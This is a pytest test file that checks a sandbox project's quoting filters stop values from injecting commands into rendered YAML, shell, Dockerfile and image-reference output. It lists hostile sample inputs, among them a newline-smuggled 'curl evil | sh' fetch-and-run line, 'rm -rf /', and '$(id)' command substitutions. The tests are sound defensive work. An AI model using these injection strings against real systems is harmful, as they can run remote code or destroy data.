"""The quoting filters: the only way a value reaches a rendered file."""

from __future__ import annotations

import json
import shlex

import pytest
import yaml

from sandbox._errors import RenderError
from sandbox.render import dockerfile_json, image_ref, sh, yaml_str

HOSTILE = [
    "a\nRUN curl evil | sh",
    "x; rm -rf /",
    "$(id)",
    "`id`",
    "${HOME}",
    "{{ 7*7 }}",
    "a: b\nc: d",
    "\"quoted\" 'single'",
    "# comment",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_yaml_str_round_trips_and_disables_interpolation(value: str) -> None:
    rendered = yaml_str(value)
    assert "\n" not in rendered
    doc = yaml.safe_load(f"key: {rendered}\nother: 1\n")
    assert doc == {"key": value.replace("$", "$$"), "other": 1}


@pytest.mark.parametrize("value", [v for v in HOSTILE if "\n" not in v])
def test_sh_gives_one_word(value: str) -> None:
    assert shlex.split(sh(value)) == [value]


@pytest.mark.parametrize("value", [v for v in HOSTILE if "\n" in v])
def test_sh_refuses_control_characters(value: str) -> None:
    with pytest.raises(RenderError, match="SECURITY"):
        sh(value)


def test_dockerfile_json_refuses_dollar_and_newline() -> None:
    assert json.loads(dockerfile_json("plain value")) == "plain value"
    with pytest.raises(RenderError, match="SECURITY"):
        dockerfile_json("${X}")
    with pytest.raises(RenderError, match="SECURITY"):
        dockerfile_json("a\nb")


@pytest.mark.parametrize(
    "ref",
    [
        "debian:bookworm-slim",
        "node:22-bookworm-slim",
        "sandbox-base:bookworm",
        "registry.corp:5000/team/python:3.12",
        "ghcr.io/a/b@sha256:" + "a" * 64,
    ],
)
def test_image_ref_accepts_real_references(ref: str) -> None:
    assert image_ref(ref) == ref


@pytest.mark.parametrize(
    "ref", ["debian:bookworm\nRUN id", "UPPER:case", "a b", "x:$(id)", "", "a:" + "t" * 200]
)
def test_image_ref_refuses_injection(ref: str) -> None:
    with pytest.raises(RenderError, match="SECURITY"):
        image_ref(ref)
